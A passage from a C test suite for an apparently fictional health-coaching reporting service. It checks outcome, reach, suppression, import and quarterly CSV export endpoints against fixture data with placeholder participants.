        {"total.swemwbs.followup_mean", "21.86"},
        {"total.swemwbs.mean_change", "1.16"},
        {"total.swemwbs.improved", "2"},
        {"total.swemwbs.improved_share", "0.4"},
        {"total.swemwbs.declined", "1"},
        {"total.swemwbs.no_meaningful_change", "2"},
        {"total.ons4.pairs", "2"},
        {"total.ons4.life_satisfaction.baseline_mean", "5.5"},
        {"total.ons4.life_satisfaction.followup_mean", "7.0"},
        {"total.ons4.life_satisfaction.mean_change", "1.5"},
        {"total.ons4.worthwhile.baseline_mean", "6.0"},
        {"total.ons4.worthwhile.followup_mean", "7.5"},
        {"total.ons4.worthwhile.mean_change", "1.5"},
        {"total.ons4.happiness.baseline_mean", "5.0"},
        {"total.ons4.happiness.followup_mean", "7.5"},
        {"total.ons4.happiness.mean_change", "2.5"},
        {"total.ons4.anxiety.baseline_mean", "5.0"},
        {"total.ons4.anxiety.followup_mean", "2.5"},
        {"total.ons4.anxiety.mean_change", "-2.5"},
        {"total.gppaq.pairs", "3"},
        {"total.gppaq.moved_up", "1"},
        {"total.gppaq.moved_down", "1"},
        {"total.gppaq.no_change", "1"},
        {"total.gppaq.baseline_mean", "2.67"},
        {"total.gppaq.followup_mean", "2.67"},
        {"total.gppaq.mean_change", "0.0"},
        {"total.bmi.pairs", "2"},
        {"total.bmi.baseline_mean", "29.3"},
        {"total.bmi.followup_mean", "28.1"},
        {"total.bmi.mean_change", "-1.2"},
        {"total.weight_kg.pairs", "2"},
        {"total.weight_kg.baseline_mean", "90.0"},
        {"total.weight_kg.followup_mean", "86.5"},
        {"total.weight_kg.mean_change", "-3.5"},
        {"total.audit_c.pairs", "1"},
        {"total.audit_c.baseline_mean", "8.0"},
        {"total.audit_c.followup_mean", "4.0"},
        {"total.audit_c.mean_change", "-4.0"},
        {"total.audit_c.positive_at_baseline", "1"},
        {"total.audit_c.positive_at_followup", "0"},
        {"total.smoking.quit_dates_set", "3"},
        {"total.smoking.quits_self_reported", "3"},
        {"total.smoking.quits_co_validated", "1"},
        {"total.goals.agreed", "6"},
        {"total.goals.people", "5"},
        {"total.goals.fully_achieved", "2"},
        {"total.goals.partly_achieved", "1"},
        {"total.goals.not_achieved", "1"},
        {"total.goals.open", "2"},
        {"total.goals.fully_achieved_share", "0.5"},
        {"total.goals.partly_achieved_share", "0.25"},
    };
    expect_all(j, kv, sizeof(kv) / sizeof(kv[0]), "outcomes total");
    assert_null(json_object_get(j, "groups")); /* no split, no groups */
    json_decref(j);
}

static void test_outcomes_team(void **state)
{
    (void)state;
    /* prestwich: Hunt's contact, referral, quit and goal drop out */
    static const struct kv kv[] = {
        {"filters.team", "\"prestwich\""},
        {"total.people_seen", "7"},
        {"total.contacts.total", "8"},
        {"total.contacts.one_to_one", "3"},
        {"total.referrals.total", "3"},
        {"total.referrals.by_destination.stop_smoking.declined", "0"},
        {"total.smoking.quits_self_reported", "2"},
        {"total.goals.agreed", "5"},
        {"total.goals.people", "4"},
        {"total.goals.open", "1"},
        {"total.swemwbs.pairs", "5"},
    };
    json_t *j = get_ok(MGR, "/api/reports/outcomes?" Q3 "&team=prestwich");
    expect_all(j, kv, sizeof(kv) / sizeof(kv[0]), "manager team=prestwich");
    json_decref(j);
    /* a coach and a lead get their own team without asking */
    j = get_ok(ALICE, "/api/reports/outcomes?" Q3);
    expect_all(j, kv, sizeof(kv) / sizeof(kv[0]), "alice");
    json_decref(j);
    j = get_ok(LENA, "/api/reports/outcomes?" Q3 "&team=prestwich");
    expect_all(j, kv, sizeof(kv) / sizeof(kv[0]), "lena");
    json_decref(j);
    j = get_ok(BOB, "/api/reports/outcomes?" Q3);
    expect_at(j, "total.people_seen", "1", "bob");
    expect_at(j, "total.referrals.by_destination.stop_smoking.declined", "1", "bob");
    expect_at(j, "total.swemwbs.pairs", "0", "bob");
    expect_at(j, "total.swemwbs.baseline_mean", "null", "bob");
    json_decref(j);
}

static void test_outcomes_splits(void **state)
{
    (void)state;
    json_t *j = get_ok(MGR, "/api/reports/outcomes?" Q3 "&split=sex");
    static const struct kv sex[] = {
        {"split", "\"sex\""},
        {"groups.[female].figures.people_seen", "3"},
        {"groups.[male].figures.people_seen", "4"},
        {"groups.[not_stated].figures.people_seen", "0"},
        {"groups.[not_recorded].figures.people_seen", "1"},
        {"groups.[female].figures.swemwbs.pairs", "3"},
        {"groups.[female].figures.swemwbs.improved", "2"},
        {"groups.[female].figures.swemwbs.declined", "1"},
        {"groups.[male].figures.swemwbs.pairs", "2"},
        {"groups.[male].figures.swemwbs.followup_mean", "20.9"},
        {"groups.[female].figures.contacts.total", "5"},
        {"groups.[male].figures.contacts.total", "3"},
        {"groups.[not_recorded].figures.contacts.drop_in", "1"},
        {"groups.[female].figures.goals.agreed", "4"},
        {"groups.[male].figures.smoking.quits_self_reported", "1"},
        {"groups.[not_recorded].figures.smoking.quits_self_reported", "1"},
        {"total.people_seen", "8"},
    };
    expect_all(j, sex, sizeof(sex) / sizeof(sex[0]), "split=sex");
    assert_int_equal(json_array_size(json_object_get(j, "groups")), 4);
    json_decref(j);

    j = get_ok(MGR, "/api/reports/outcomes?" Q3 "&split=age_band");
    static const struct kv age[] = {
        {"groups.[under_16].figures.people_seen", "0"},
        {"groups.[16_24].figures.people_seen", "1"},
        {"groups.[25_34].figures.people_seen", "1"},
        {"groups.[35_49].figures.people_seen", "4"},
        {"groups.[50_64].figures.people_seen", "1"},
        {"groups.[65_plus].figures.people_seen", "1"},
    };
    expect_all(j, age, sizeof(age) / sizeof(age[0]), "split=age_band");
    json_decref(j);

    /* the return's bands: Able is 35 on 2026-09-30 (up to 35), Baker 36 that day */
    j = get_ok(MGR, "/api/reports/outcomes?" Q3 "&split=age_band_return");
    static const struct kv ret[] = {
        {"groups.[up_to_35].figures.people_seen", "3"},
        {"groups.[36_49].figures.people_seen", "3"},
        {"groups.[50_plus].figures.people_seen", "2"},
    };
    expect_all(j, ret, sizeof(ret) / sizeof(ret[0]), "split=age_band_return");
    json_decref(j);

    j = get_ok(MGR, "/api/reports/outcomes?" Q3 "&split=ethnic_group");
    static const struct kv eth[] = {
        {"groups.[asian].figures.people_seen", "1"},
        {"groups.[black].figures.people_seen", "1"},
        {"groups.[mixed].figures.people_seen", "1"},
        {"groups.[white].figures.people_seen", "2"},
        {"groups.[other].figures.people_seen", "1"},
        {"groups.[not_stated].figures.people_seen", "1"},
        {"groups.[not_recorded].figures.people_seen", "1"},
        {"groups.[asian].figures.bmi.pairs", "1"},
        {"groups.[asian].figures.weight_kg.mean_change", "-3.0"},
    };
    expect_all(j, eth, sizeof(eth) / sizeof(eth[0]), "split=ethnic_group");
    json_decref(j);

    j = get_ok(MGR, "/api/reports/outcomes?" Q3 "&split=imd_decile");
    static const struct kv imd[] = {
        {"groups.[1].figures.people_seen", "2"},       {"groups.[2].figures.people_seen", "2"},
        {"groups.[3].figures.people_seen", "0"},       {"groups.[5].figures.people_seen", "1"},
        {"groups.[8].figures.people_seen", "1"},       {"groups.[10].figures.people_seen", "0"},
        {"groups.[unknown].figures.people_seen", "2"}, {"groups.[1].figures.swemwbs.pairs", "2"},
    };
    expect_all(j, imd, sizeof(imd) / sizeof(imd[0]), "split=imd_decile");
    assert_int_equal(json_array_size(json_object_get(j, "groups")), 11);
    json_decref(j);

    /* cohorts overlap: Fox is a veteran and a carer */
    j = get_ok(MGR, "/api/reports/outcomes?" Q3 "&split=cohort");
    static const struct kv coh[] = {
        {"groups.[veteran].figures.people_seen", "2"},
        {"groups.[learning_disability].figures.people_seen", "1"},
        {"groups.[carer].figures.people_seen", "2"},
        {"groups.[long_term_condition].figures.people_seen", "1"},
        {"groups.[none].figures.people_seen", "3"},
        {"groups.[carer].figures.swemwbs.pairs", "2"},
        {"groups.[veteran].figures.goals.agreed", "3"},
    };
    expect_all(j, coh, sizeof(coh) / sizeof(coh[0]), "split=cohort");
    json_decref(j);

    j = get_ok(MGR, "/api/reports/outcomes?" Q3 "&split=team");
    static const struct kv team[] = {
        {"groups.[prestwich].figures.people_seen", "7"},
        {"groups.[radcliffe].figures.people_seen", "1"},
        {"groups.[bury-town].figures.people_seen", "0"},
        {"groups.[radcliffe].figures.goals.open", "1"},
    };
    expect_all(j, team, sizeof(team) / sizeof(team[0]), "split=team");
    assert_int_equal(json_array_size(json_object_get(j, "groups")), 5);
    json_decref(j);

    j = get_ok(MGR, "/api/reports/outcomes?" Q3 "&split=employment_status");
    static const struct kv emp[] = {
        {"groups.[in_work].figures.people_seen", "3"},
        {"groups.[out_of_work].figures.people_seen", "2"},
        {"groups.[economically_inactive].figures.people_seen", "1"},
        {"groups.[not_stated].figures.people_seen", "1"},
        {"groups.[not_recorded].figures.people_seen", "1"},
    };
    expect_all(j, emp, sizeof(emp) / sizeof(emp[0]), "split=employment_status");
    json_decref(j);
}

static void test_outcomes_filters(void **state)
{
    (void)state;
    char path[512];
    /* venue V1: Able, Baker, Drew and Fox had a contact there */
    snprintf(path, sizeof(path), "/api/reports/outcomes?" Q3 "&venue=%s", G.v1);
    json_t *j = get_ok(MGR, path);
    static const struct kv v1[] = {
        {"total.people_seen", "4"},
        {"total.contacts.total", "4"},
        {"total.contacts.one_to_one", "3"},
        {"total.contacts.drop_in", "1"},
        {"total.group_attendance.attended", "0"},
        {"total.swemwbs.pairs", "3"},
        {"total.goals.agreed", "4"},
        {"total.referrals.total", "3"},
    };
    expect_all(j, v1, sizeof(v1) / sizeof(v1[0]), "venue=V1");
    json_decref(j);
    snprintf(path, sizeof(path), "/api/reports/outcomes?" Q3 "&team=prestwich&venue=%s", G.v1);
    j = get_ok(MGR, path);
    expect_all(j, v1, sizeof(v1) / sizeof(v1[0]), "team and venue=V1");
    json_decref(j);
    snprintf(path, sizeof(path), "/api/reports/outcomes?" Q3 "&team=radcliffe&venue=%s", G.v1);
    j = get_ok(MGR, path);
    expect_at(j, "total.contacts.total", "0", "radcliffe at V1");
    json_decref(j);

    /* topic smoking: contacts of Able, Ely, Fox, Hunt; goals on smoking */
    j = get_ok(MGR, "/api/reports/outcomes?" Q3 "&topic=smoking");
    static const struct kv sm[] = {
        {"total.people_seen", "4"},
        {"total.contacts.total", "4"},
        {"total.goals.agreed", "3"},
        {"total.smoking.quits_self_reported", "3"},
        {"total.smoking.quit_dates_set", "3"},
    };
    expect_all(j, sm, sizeof(sm) / sizeof(sm[0]), "topic=smoking");
    json_decref(j);

    /* coach lena: her two contacts with Cole and the sessions she leads */
    snprintf(path, sizeof(path), "/api/reports/outcomes?" Q3 "&coach=%s", G.uid[LENA]);
    j = get_ok(MGR, path);
    static const struct kv co[] = {
        {"total.people_seen", "2"},
        {"total.contacts.total", "2"},
        {"total.group_attendance.attended", "3"},
        {"total.group_attendance.absent", "1"},
        {"total.group_attendance.apologies", "1"},
        {"total.swemwbs.pairs", "2"},
    };
    expect_all(j, co, sizeof(co) / sizeof(co[0]), "coach=lena");
    json_decref(j);

    snprintf(path, sizeof(path), "/api/reports/outcomes?" Q3 "&programme=%s", G.prog);
    j = get_ok(MGR, path);
    static const struct kv pr[] = {
        {"total.people_seen", "2"},
        {"total.contacts.total", "1"},
        {"total.contacts.group", "1"},
        {"total.group_attendance.rate", "0.6"},
    };
    expect_all(j, pr, sizeof(pr) / sizeof(pr[0]), "programme");
    json_decref(j);
    snprintf(path, sizeof(path), "/api/reports/outcomes?" Q3 "&team=prestwich&programme=%s",
             G.prog);
    j = get_ok(LENA, path);
    expect_all(j, pr, sizeof(pr) / sizeof(pr[0]), "lena, programme");
    json_decref(j);

    j = get_ok(MGR, "/api/reports/outcomes?" Q3 "&cohort=carer");
    static const struct kv ca[] = {
        {"filters.cohort", "\"carer\""},
        {"total.people_seen", "2"},
        {"total.swemwbs.pairs", "2"},
        {"total.swemwbs.declined", "1"},
    };
    expect_all(j, ca, sizeof(ca) / sizeof(ca[0]), "cohort=carer");
    json_decref(j);
}

static void test_suppression(void **state)
{
    (void)state;
    json_t *j = get_ok(MGR, "/api/reports/outcomes?" Q3 "&suppress=1");
    static const struct kv kv[] = {
        {"suppressed", "true"},
        {"total.people_seen", "8"},
        {"total.contacts.total", "9"},
        {"total.contacts.one_to_one", "\"<5\""},
        {"total.contacts.dna", "\"<5\""},
        {"total.group_attendance.attended", "\"<5\""},
        {"total.group_attendance.rate", "null"},
        {"total.referrals.by_destination.bowel_screening.total", "0"},
        {"total.swemwbs.pairs", "5"},
        {"total.swemwbs.mean_change", "1.16"},
        {"total.swemwbs.improved", "\"<5\""},
        {"total.swemwbs.improved_share", "null"},
        {"total.ons4.pairs", "\"<5\""},
        {"total.ons4.anxiety.mean_change", "null"},
        {"total.goals.agreed", "6"},
        {"total.goals.people", "5"},
        {"total.goals.fully_achieved", "\"<5\""},
        {"total.goals.fully_achieved_share", "null"},
    };
    expect_all(j, kv, sizeof(kv) / sizeof(kv[0]), "suppress=1");
    json_decref(j);
    expect_error(MGR, "/api/reports/outcomes?" Q3 "&suppress=yes", 400, "suppress");
}

static void test_records(void **state)
{
    (void)state;
    expect_records(MGR, "figure=swemwbs.improved", "Able,Cole");
    expect_records(MGR, "figure=swemwbs.declined", "Fox");
    expect_records(MGR, "figure=people_seen&split=sex&group=not_recorded", "Ely");
    expect_records(MGR, "figure=referrals.by_destination.stop_smoking.declined", "Hunt");
    expect_records(MGR, "figure=referrals.by_status.accepted", "Able");
    expect_records(MGR, "figure=contacts.dna", "Able");
    expect_records(MGR, "figure=group_attendance.attended", "Cole,Gale");
    expect_records(MGR, "figure=smoking.quits_co_validated", "Able");
    expect_records(MGR, "figure=smoking.quits_self_reported", "Able,Ely,Hunt");
    expect_records(MGR, "figure=goals.open", "Cole,Hunt");
    expect_records(MGR, "figure=gppaq.moved_down", "Cole");
    expect_records(MGR, "figure=audit_c.positive_at_baseline", "Drew");
    expect_records(MGR, "figure=people_seen&team=radcliffe", "Hunt");
    expect_records(MGR, "figure=people_seen&split=cohort&group=veteran", "Able,Fox");
    expect_records(MGR, "figure=people_seen", "Able,Baker,Cole,Drew,Ely,Fox,Gale,Hunt");
    /* with a filter, activity counts keep everyone it touched: Able only sent apologies */
    char q[200];
    snprintf(q, sizeof(q), "figure=group_attendance.apologies&coach=%s", G.uid[LENA]);
    expect_records(MGR, q, "Able");
    snprintf(q, sizeof(q), "figure=people_seen&coach=%s", G.uid[LENA]);
    expect_records(MGR, q, "Cole,Gale");
    snprintf(q, sizeof(q), "figure=swemwbs.pairs&venue=%s", G.v1);
    expect_records(MGR, q, "Able,Baker,Fox");

    json_t *j = get_ok(MGR, "/api/reports/outcomes/records?" Q3 "&figure=people_seen&limit=2");
    expect_at(j, "count", "8", "limit");
    expect_at(j, "truncated", "true", "limit");
    assert_int_equal(json_array_size(json_object_get(j, "items")), 2);
    json_t *first = json_array_get(json_object_get(j, "items"), 0);
    assert_string_equal(json_string_value(json_object_get(first, "id")), G.p[1]);
    assert_string_equal(json_string_value(json_object_get(first, "team")), "prestwich");
    json_decref(j);

    expect_error(MGR, "/api/reports/outcomes/records?" Q3 "&figure=swemwbs.mean_change", 400,
                 "figure");
    expect_error(MGR, "/api/reports/outcomes/records?" Q3, 400, "figure");
    expect_error(MGR, "/api/reports/outcomes/records?" Q3 "&figure=people_seen&group=female", 400,
                 "group");
    expect_error(MGR, "/api/reports/outcomes/records?" Q3 "&figure=people_seen&split=sex&group=x",
                 400, "group");
    expect_error(ALICE, "/api/reports/outcomes/records?" Q3 "&figure=people_seen", 403, NULL);
    expect_error(LENA, "/api/reports/outcomes/records?" Q3 "&figure=people_seen", 403, NULL);
}

static void test_reach(void **state)
{
    (void)state;
    json_t *j = get_ok(MGR, "/api/reports/reach?" Q3 "&split=imd_decile");
    static const struct kv kv[] = {
        {"engaged", "8"},
        {"population_total", "null"},
        {"groups.[1].engaged", "2"},
        {"groups.[1].share", "0.25"},
        {"groups.[5].share", "0.125"},
        {"groups.[unknown].engaged", "2"},
        {"groups.[1].population", "null"},
        {"groups.[1].representation", "null"},
    };
    expect_all(j, kv, sizeof(kv) / sizeof(kv[0]), "reach");
    json_decref(j);

    /* population: 1000 people in each decile */
    char pop[600], out[2048];
    char text[400] = "split,group,population\n";
    for (int d = 1; d <= 10; d++) {
        size_t n = strlen(text);
        snprintf(text + n, sizeof(text) - n, "imd_decile,%d,1000\n", d);
    }
    write_file("pop.csv", text, pop);
    const char *args[] = {"import", "population", "--data", G.data, pop, NULL};
    int st = cbt_run(args, NULL, out, sizeof(out));
    if (st != 0 || !strstr(out, "imported 10 population rows")) {
        fail_msg("import population: %d %s", st, out);
    }
    j = get_ok(MGR, "/api/reports/reach?" Q3 "&split=imd_decile");
    static const struct kv kv2[] = {
        {"population_total", "10000"},           {"groups.[1].population", "1000"},
        {"groups.[1].population_share", "0.1"},  {"groups.[1].rate_per_1000", "2.0"},
        {"groups.[1].representation", "2.5"},    {"groups.[3].rate_per_1000", "0.0"},
        {"groups.[unknown].population", "null"},
    };
    expect_all(j, kv2, sizeof(kv2) / sizeof(kv2[0]), "reach with population");
    json_decref(j);

    /* a bad population file changes nothing */
    char bad[600];
    write_file("badpop.csv", "split,group,population\nimd_decile,1,5\nimd_decile,11,5\n", bad);
    const char *args2[] = {"import", "population", "--data", G.data, bad, NULL};
    st = cbt_run(args2, NULL, out, sizeof(out));
    if (st == 0 || !strstr(out, "line 3, column 2 (group)")) {
        fail_msg("bad population import: %d %s", st, out);
    }
    j = get_ok(MGR, "/api/reports/reach?" Q3 "&split=imd_decile");
    expect_at(j, "groups.[1].population", "1000", "population unchanged");
    json_decref(j);

    j = get_ok(ALICE, "/api/reports/reach?" Q3 "&split=sex");
    expect_at(j, "engaged", "7", "alice reach");
    expect_at(j, "groups.[female].engaged", "3", "alice reach");
    json_decref(j);
    expect_error(MGR, "/api/reports/reach?" Q3, 400, "split");
}

static void test_imd_import(void **state)
{
    (void)state;
    char path[600], out[4096];
    /* the LSOA-shaped file with the same content replaces the table: figures unchanged */
    write_file("lsoa.csv", IMD_LSOA_CSV, path);
    const char *ok_args[] = {"import", "imd", "--data", G.data, path, NULL};
    int st = cbt_run(ok_args, NULL, out, sizeof(out));
    if (st != 0 || !strstr(out, "imported 4 postcodes")) {
        fail_msg("lsoa import: %d %s", st, out);
    }
    static const struct {
        const char *name, *text, *where;
    } bad[] = {
        {"bad1.csv", "postcode,decile\nBL9 0EJ,2\nBL9 7AB,11\n", "line 3, column 2 (decile)"},
        {"bad2.csv", "postcode,decile\nBL9 0EJ,2\nNOT A PC,3\n", "line 3, column 1 (postcode)"},
        {"bad3.csv", "postcode,rank\nBL9 0EJ,2\n", "no decile column"},
        {"bad4.csv", "postcode,decile\nBL9 0EJ,2\nbl9 0ej,3\n", "line 3, column 1 (postcode)"},
        {"bad5.csv", "postcode,decile\nBL9 0EJ,2\nM25 1AA\n", "line 3"},
    };
    for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
        write_file(bad[i].name, bad[i].text, path);
        const char *args[] = {"import", "imd", "--data", G.data, path, NULL};
        st = cbt_run(args, NULL, out, sizeof(out));
        if (st == 0 || !strstr(out, bad[i].where) || !strstr(out, "nothing was imported")) {
            fail_msg("%s: status %d, want an error at %s: %s", bad[i].name, st, bad[i].where, out);
        }
    }
    /* the table is as the last good import left it */
    json_t *j = get_ok(MGR, "/api/reports/outcomes?" Q3 "&split=imd_decile");
    expect_at(j, "groups.[1].figures.people_seen", "2", "after bad imports");
    expect_at(j, "groups.[8].figures.people_seen", "1", "after bad imports");
    expect_at(j, "groups.[unknown].figures.people_seen", "2", "after bad imports");
    json_decref(j);
    const char *missing[] = {"import", "imd", "--data", G.data, NULL};
    st = cbt_run(missing, NULL, out, sizeof(out));
    assert_int_equal(st, 2);
}

static const char *const CSV_T5 =
    "quarter,period_start,period_end,team,breakdown,group,participants_engaged,"
    "action_plans_agreed\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,total,all,8,5\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,cohort,veteran,<5,<5\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,cohort,learning_disability,<5,<5\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,cohort,carer,<5,<5\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,cohort,long_term_condition,<5,0\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,cohort,none,<5,<5\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,referral_source,self,<5,<5\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,referral_source,gp,<5,<5\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,referral_source,social_prescriber,<5,<5\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,referral_source,jobcentre,<5,<5\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,referral_source,employer,<5,<5\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,referral_source,community_organisation,0,0\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,referral_source,other,0,0\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,referral_source,not_recorded,<5,0\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,main_barrier,mental_health,<5,<5\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,main_barrier,musculoskeletal,<5,<5\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,main_barrier,autism,<5,<5\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,main_barrier,heart_blood_pressure,<5,<5\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,main_barrier,learning_difficulties,0,0\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,main_barrier,other,<5,<5\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,main_barrier,not_recorded,<5,0\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,employment_status,in_work,<5,<5\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,employment_status,out_of_work,<5,<5\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,employment_status,economically_inactive,<5,<5\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,employment_status,not_stated,<5,0\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,employment_status,not_recorded,<5,0\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,age_band_return,up_to_35,<5,<5\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,age_band_return,36_49,<5,<5\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,age_band_return,50_plus,<5,0\r\n";

/* Threshold 2: only ones are hidden. */
static const char *const CSV_T2 =
    "quarter,period_start,period_end,team,breakdown,group,participants_engaged,"
    "action_plans_agreed\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,total,all,8,5\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,cohort,veteran,2,2\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,cohort,learning_disability,<2,<2\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,cohort,carer,2,2\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,cohort,long_term_condition,<2,0\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,cohort,none,3,<2\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,referral_source,self,2,<2\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,referral_source,gp,2,<2\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,referral_source,social_prescriber,<2,<2\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,referral_source,jobcentre,<2,<2\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,referral_source,employer,<2,<2\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,referral_source,community_organisation,0,0\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,referral_source,other,0,0\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,referral_source,not_recorded,<2,0\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,main_barrier,mental_health,<2,<2\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,main_barrier,musculoskeletal,<2,<2\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,main_barrier,autism,<2,<2\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,main_barrier,heart_blood_pressure,<2,<2\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,main_barrier,learning_difficulties,0,0\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,main_barrier,other,<2,<2\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,main_barrier,not_recorded,3,0\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,employment_status,in_work,3,2\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,employment_status,out_of_work,2,2\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,employment_status,economically_inactive,<2,<2\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,employment_status,not_stated,<2,0\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,employment_status,not_recorded,<2,0\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,age_band_return,up_to_35,3,3\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,age_band_return,36_49,3,2\r\n"
    "2026Q3,2026-07-01,2026-09-30,all,age_band_return,50_plus,2,0\r\n";

static void set_threshold(const char *v)
{
    struct cb_store *s;
    struct cb_conn *c;
    assert_int_equal(cb_store_open(G.data, &s), 0);
    assert_int_equal(cb_store_conn(s, &c), 0);
    assert_int_equal(cb_setting_set(c, "small_number_threshold", v), 0);
    cb_store_close(s);
}

static void test_quarterly_csv(void **state)
{
    (void)state;
    struct cbt_resp r;
    rq(&G.c[MGR], "GET", "/api/exports/quarterly.csv?quarter=2026Q3", NULL, &r);
    expect_status(&r, 200, "quarterly");
    char h[200];
    assert_true(cbt_header(&r, "Content-Type", h, sizeof(h)));
    assert_non_null(strstr(h, "text/csv"));
    assert_true(cbt_header(&r, "Content-Disposition", h, sizeof(h)));
    assert_string_equal(h, "attachment; filename=\"coachbox-quarterly-2026Q3.csv\"");
    assert_true(cbt_header(&r, "Cache-Control", h, sizeof(h)));
    assert_string_equal(h, "no-store");
    assert_true(cbt_header(&r, "X-Content-Type-Options", h, sizeof(h)));
    if (strcmp(r.body, CSV_T5) != 0) {
        fail_msg("quarterly CSV differs:\n%s", r.body);
    }
    cbt_resp_free(&r);

    /* the command line writes the same bytes */
    char path[600], out[2048];
    snprintf(path, sizeof(path), "%s-q.csv", G.data);
    const char *args[] = {"export", "quarterly", "--data", G.data, "--quarter",
                          "2026Q3", "--out",     path,     NULL};
    int st = cbt_run(args, NULL, out, sizeof(out));
    assert_int_equal(st, 0);
    char *file = read_file(path, NULL);
    assert_non_null(file);
    assert_string_equal(file, CSV_T5);
    free(file);
    struct stat sb;
    assert_int_equal(stat(path, &sb), 0);
    assert_int_equal(sb.st_mode & 0777, 0600);

    set_threshold("2");
    rq(&G.c[MGR], "GET", "/api/exports/quarterly.csv?quarter=2026Q3", NULL, &r);
    expect_status(&r, 200, "quarterly t2");
    if (strcmp(r.body, CSV_T2) != 0) {
        fail_msg("quarterly CSV (threshold 2) differs:\n%s", r.body);
    }
    cbt_resp_free(&r);
    json_t *j = get_ok(MGR, "/api/reports/outcomes?" Q3 "&suppress=1");
    expect_at(j, "small_number_threshold", "2", "t2");
    expect_at(j, "total.contacts.phone", "\"<2\"", "t2");
    expect_at(j, "total.contacts.drop_in", "2", "t2");
    json_decref(j);
    set_threshold("5");

    rq(&G.c[MGR], "GET", "/api/exports/quarterly.csv?quarter=2026Q3&team=radcliffe", NULL, &r);
    expect_status(&r, 200, "quarterly radcliffe");
    assert_non_null(
        strstr(r.body, "\r\n2026Q3,2026-07-01,2026-09-30,radcliffe,total,all,<5,<5\r\n"));
    cbt_resp_free(&r);

    expect_error(MGR, "/api/exports/quarterly.csv", 400, "quarter");
    expect_error(MGR, "/api/exports/quarterly.csv?quarter=2026Q5", 400, "quarter");
    expect_error(MGR, "/api/exports/quarterly.csv?quarter=2026Q3&team=nowhere", 400, "team");
    expect_error(ALICE, "/api/exports/quarterly.csv?quarter=2026Q3", 403, NULL);
    expect_error(ADM, "/api/exports/quarterly.csv?quarter=2026Q3", 403, NULL);
}

static void test_data_quality(void **state)
{
    (void)state;
    json_t *j = get_ok(MGR, "/api/reports/data-quality");
    static const struct kv kv[] = {
        {"weeks", "12"},
        {"team", "null"},
        {"checks.missing_nhs_number.count", "4"},
        {"checks.missing_ethnic_group.count", "1"},
        {"checks.missing_postcode.count", "1"},
        {"checks.postcode_not_in_imd.count", "1"},
        {"checks.incomplete_measures.count", "1"},
        {"checks.contacts_without_topic.count", "1"},
        {"checks.baselines_without_review.count", "3"},
        {"checks.missing_nhs_number.truncated", "false"},
    };
    expect_all(j, kv, sizeof(kv) / sizeof(kv[0]), "data quality");
    char names[256];
    json_t *items = at(j, "checks.missing_nhs_number");
    record_names(items, names, sizeof(names));
    assert_string_equal(names, "Drew,Ely,Fox,Hunt");
    record_names(at(j, "checks.baselines_without_review"), names, sizeof(names));
    assert_string_equal(names, "Fox,Drew,Baker");
    json_t *b0 = json_array_get(at(j, "checks.baselines_without_review.items"), 0);
    assert_string_equal(json_string_value(json_object_get(b0, "instrument")), "bmi");
    json_t *inc = json_array_get(at(j, "checks.incomplete_measures.items"), 0);
    assert_string_equal(json_string_value(json_object_get(inc, "instrument")), "phq9");
    assert_string_equal(json_string_value(json_array_get(json_object_get(inc, "missing"), 0)),
                        "q9");
    json_t *ct = json_array_get(at(j, "checks.contacts_without_topic.items"), 0);
    assert_string_equal(json_string_value(json_object_get(ct, "type")), "video");
    record_names(at(j, "checks.postcode_not_in_imd"), names, sizeof(names));
    assert_string_equal(names, "Ely");
    json_decref(j);

    /* a coach sees their own team; nothing is 104 weeks old */
    j = get_ok(ALICE, "/api/reports/data-quality?weeks=104");
    expect_at(j, "team", "\"prestwich\"", "alice dq");
    expect_at(j, "weeks", "104", "alice dq");
